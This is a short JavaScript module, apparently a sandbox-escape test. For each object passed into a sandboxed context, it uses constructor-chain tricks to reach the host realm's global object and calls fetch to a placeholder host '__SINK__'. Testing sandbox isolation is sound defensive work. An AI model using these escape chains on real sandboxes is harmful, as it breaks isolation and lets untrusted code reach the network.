// From everything the bundle is given to the Function of the realm that made it, and from there to that realm's global.
export async function work(input, ctx) {
  const given = [input, ctx, ctx.random, ctx.tick, ctx.console, ctx.progress, ctx.console?.log, console, crypto, Math.random, Date, structuredClone]
  for (const one of given) {
    attempt(() => one.constructor.constructor('return this')().fetch('http://__SINK__/chain', { mode: 'no-cors' }))
    attempt(() => one.constructor('return this')().fetch('http://__SINK__/chain', { mode: 'no-cors' }))
    attempt(() => Object.getPrototypeOf(one).constructor.constructor('return this')().fetch('http://__SINK__/chain', { mode: 'no-cors' }))
  }
  return settled()
}
